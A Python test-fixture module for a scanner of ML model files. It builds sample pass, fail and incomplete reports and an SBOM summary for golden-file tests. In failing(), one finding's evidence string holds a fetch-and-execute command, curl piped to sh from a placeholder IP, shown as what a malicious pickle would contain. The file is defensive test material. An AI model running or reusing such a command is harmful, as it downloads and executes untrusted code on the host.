"""Reports as scan writes them, for the tests of what a reader sees and for the golden files."""

from __future__ import annotations

from datetime import date
from typing import Any

from scanner.domain import (
    Artifact,
    BillChange,
    Cause,
    Change,
    EngineRef,
    FieldResult,
    Finding,
    Fix,
    Incomplete,
    PolicySummary,
    PreviousReference,
    ProfileResult,
    Reference,
    Report,
    SbomSummary,
    Severity,
    Suppression,
    Tool,
    Verdict,
    fingerprint,
)
from scanner.report.render import Links
from scanner.rules import RULES

BASE, HEAD = "5e0c1d9f" * 5, "a1b2c3d4" * 5
LINKS = Links(
    sbom="https://github.com/acme/shop/actions/runs/7/artifacts/21",
    report="https://github.com/acme/shop/actions/runs/7/artifacts/22",
    run="https://github.com/acme/shop/actions/runs/7",
    docs="https://github.com/modelward/modelward/blob/main/docs/policy.md",
)


def artifact(path: str, **given: Any) -> Artifact:
    """A pickle that was added and read whole, except for what is given."""
    values: dict[str, Any] = {
        "id": f"git:{path}",
        "source": "git",
        "path": path,
        "change": "added",
        "format": "pickle",
        "size": 4_096,
        "sha256": fingerprint("sha", path, None, None, None) * 2,
        "sha256_origin": "computed",
        "coverage": "full",
        "bytes_read": 4_096,
        "status": "scanned",
    }
    return Artifact(**(values | given))


def finding(rule: str, path: str, **given: Any) -> Finding:
    """A new finding of a rule, with the texts of the registry."""
    known = RULES[rule]
    symbol, evidence, member = given.get("symbol"), given.get("evidence", ""), given.get("member")
    values: dict[str, Any] = {
        "fingerprint": fingerprint(rule, path, member, symbol, evidence),
        "rule": rule,
        "severity": known.severity,
        "title": known.title,
        "message": known.message.format(path=path, symbol=symbol, member=member, evidence=evidence),
        "remediation": known.remediation,
        "path": path,
        "engines": ["modelscan"],
        "cwe": list(known.cwe),
        "owasp": list(known.owasp),
        "atlas": list(known.atlas),
        "new": True,
    }
    values["blocking"] = given.get("severity", known.severity) in ("high", "critical")
    if given.get("new") is False or given.get("suppressed"):
        values["blocking"] = False
    return Finding(**(values | given))


def report(verdict: Verdict, **given: Any) -> Report:
    """A report about a pull request."""
    values: dict[str, Any] = {
        "tool": Tool(version="0.1.0", engines=[EngineRef(name="modelscan", version="0.8.8")]),
        "change": Change(repository="acme/shop", mode="change", base=BASE, merge_base=BASE, head=HEAD),
        "verdict": verdict,
        "reasons": [],
        "policy": PolicySummary(source="base", path=".github/modelward.yml"),
    }
    return Report(**(values | given))


def nothing() -> Report:
    """No model, no reference."""
    return report(Verdict.PASS)


def passing() -> Report:
    """Three honest files, and something that was accepted before."""
    known = finding(
        "keras-lambda-layer",
        "models/known.keras",
        suppressed=Suppression(reason="Reviewed.", owner="ml-team"),
    )
    return report(
        Verdict.PASS,
        artifacts=[artifact(f"models/{name}.safetensors", format="safetensors") for name in "abc"],
        findings=[known],
        sbom=SbomSummary(written=True, reason="the change adds models", components=42, complete=True),
    )


def failing() -> Report:
    """The example of the design: one of each kind of row."""
    ranker = artifact("models/ranker.bin")
    shards = [
        artifact(
            f"models/{name}", source="lfs", status="incomplete", coverage="none", sha256_origin="declared"
        )
        for name in ("big-01.safetensors", "big-02.safetensors")
    ]
    ner = Reference(
        id="ref:serve.py:41",
        repo_id="acme/ner",
        repo_type="model",
        revision="e4f5a6b7" * 5,
        resolved_revision="e4f5a6b7" * 5,
        pinned=True,
        loader="transformers",
        path="serve.py",
        line=41,
        end_line=41,
        in_diff=True,
        change="modified",
        previous=PreviousReference(
            repo_id="acme/ner", revision="a1b2c3d4" * 5, resolved_revision="a1b2c3d4" * 5
        ),
        resolution="resolved",
    )
    findings = [
        finding(
            "pickle-dangerous-import",
            ranker.path,
            artifact=ranker.id,
            symbol="os.system",
            evidence='os.system("curl -s https://203.0.113.7/x | sh")',
            offset=214,
        ),
        finding(
            "pickle-suspicious-import", ranker.path, artifact=ranker.id, symbol="numexpr.evaluate", offset=71
        ),
        finding("denied-license", "serve.py", reference=ner.id, symbol="cc-by-nc-4.0", line=41),
        finding("name-contradicts-content", "assets/logo.png", symbol="pickle", evidence=".png"),
        *(
            finding("malformed-model", f"old/{number}.bin", evidence="The archive has a gap.", new=False)
            for number in range(31)
        ),
    ]
    gaps = [
        Incomplete(
            subject=shard.path,
            cause=Cause.ACCESS,
            detail="LFS answered 403 (access denied).",
            action="Grant access to the LFS objects, then run again.",
            artifact=shard.id,
        )
        for shard in shards
    ]
    return report(
        Verdict.FAIL,
        reasons=["2 findings at or above high", "2 files were not read"],
        artifacts=[ranker, *shards, artifact("models/ok.safetensors", format="safetensors")],
        references=[ner],
        findings=findings,
        incomplete=gaps,
        sbom=SbomSummary(written=True, reason="the change adds models", components=118, complete=False),
    )


def incomplete() -> Report:
    """Nothing bad was seen, but not all was read."""
    bomb = artifact("models/bomb.zip", format="zip", status="incomplete", coverage="none")
    return report(
        Verdict.INCOMPLETE,
        reasons=["1 file was not read"],
        artifacts=[bomb, artifact("models/ok.npy", format="npy")],
        incomplete=[
            Incomplete(
                subject=bomb.path,
                cause=Cause.HOSTILE,
                detail="It unpacks to more than 200 times its size.",
                action="Remove the file, or store it without compression.",
                artifact=bomb.id,
            )
        ],
    )


def billed() -> SbomSummary:
    """A bill of materials with each kind of change and each state of a field."""
    changes = [
        BillChange(
            kind="model",
            change="updated",
            name="acme/ner",
            before="a1b2c3d4" * 5,
            after="e4f5a6b7" * 5,
            license_before="apache-2.0",
            license_after="CC-BY-NC-4.0",
        ),
        BillChange(kind="model", change="added", name="models/ranker.bin", after="sha256:" + "0f" * 32),
        BillChange(kind="model", change="removed", name="models/gone.bin"),
        BillChange(kind="data", change="added", name="acme/news", after="1f" * 20, license_after="CC-BY-4.0"),
        BillChange(kind="package", change="updated", name="torch", before="2.6.0", after="2.7.0"),
        BillChange(
            kind="package",
            change="updated",
            name="left-pad",
            before="1.3.0",
            after="1.3.0",
            license_before="MIT",
        ),
    ]
    fields = [
        FieldResult(field="name", title="Name", group="Component", state="present", present=9, of=9),
        FieldResult(field="license", title="Licence", group="Component", state="unknown", present=4, of=9),
        FieldResult(field="hash", title="Digest", group="Component", state="absent", present=8, of=9),
        FieldResult(field="timestamp", title="Date", group="SBOM", state="absent", of=1),
        FieldResult(field="data-hash", title="Digest of data", group="Datasets", state="not-applicable"),
    ]
    profiles = [
        ProfileResult(kind=kind, profile=name, title=title, version="1.0", fields=fields)
        for kind, name, title in (
            ("profile", "cisa", "A list of an agency"),
            ("mapping", "law", "Clauses of a law"),
        )
    ]
    return SbomSummary(
        written=True,
        reason="valid CycloneDX 1.6",
        components=118,
        profiles=profiles,
        changes=changes,
        changes_count=len(changes),
    )


def everything() -> Report:
    """Each section that a comment or a summary can have."""
    bad = failing()
    example = artifact("examples/demo.pkl")
    head = artifact(
        "models/head.pkl", change="modified", imports_removed=["acme.Head"], calls_added=["a.b(1)"]
    )
    loose = Reference(
        id="ref:train.py:12",
        repo_id="org/base",
        repo_type="model",
        pinned=False,
        loader="transformers",
        trust_remote_code=True,
        path="train.py",
        line=12,
        end_line=13,
        in_diff=True,
        change="added",
        resolution="not_checked",
    )
    more = [
        finding("pickle-suspicious-import", example.path, artifact=example.id, symbol="numexpr.evaluate"),
        finding("policy-changed", ".github/modelward.yml"),
        finding(
            "remote-code-reference",
            "train.py",
            reference=loose.id,
            symbol="modeling_base.py",
            line=12,
            fix=Fix(path="train.py", line=12, end_line=13, replacement='    revision="abc",'),
        ),
        finding(
            "keras-lambda-layer",
            "models/known.keras",
            suppressed=Suppression(reason="Reviewed by hand.", owner="ml-team", expires=date(2027, 1, 31)),
        ),
    ]
    offline = Incomplete(
        subject="org/base",
        cause=Cause.OFFLINE,
        detail="Online checks are off.",
        action="Run without --offline.",
    )
    return bad.model_copy(
        update={
            "artifacts": [
                bad.artifacts[0].model_copy(update={"change": "modified", "imports_added": ["os.system"]}),
                *bad.artifacts[1:],
                example,
                head,
                artifact("models/gone.bin", change="removed", status="skipped", coverage="none"),
                artifact("models/new.onnx", change="renamed", previous_path="models/was.onnx", format="onnx"),
            ],
            "references": [*bad.references, loose],
            "findings": [*bad.findings, *more],
            "incomplete": [*bad.incomplete, offline],
            "warnings": ["2 model files are not committed and were not looked at."],
            "sbom": billed(),
        }
    )


def many(number: int) -> Report:
    """One critical finding in each of ``number`` models."""
    files = [artifact(f"models/shard-{index:05}.bin") for index in range(number)]
    return report(
        Verdict.FAIL,
        reasons=[f"{number} findings at or above high"],
        artifacts=files,
        findings=[
            finding(
                "pickle-dangerous-import",
                file.path,
                artifact=file.id,
                symbol="os.system",
                severity=Severity.CRITICAL,
                offset=index,
            )
            for index, file in enumerate(files)
        ],
    )


GOLDEN = {"pass": passing, "fail": failing, "incomplete": incomplete, "everything": everything}
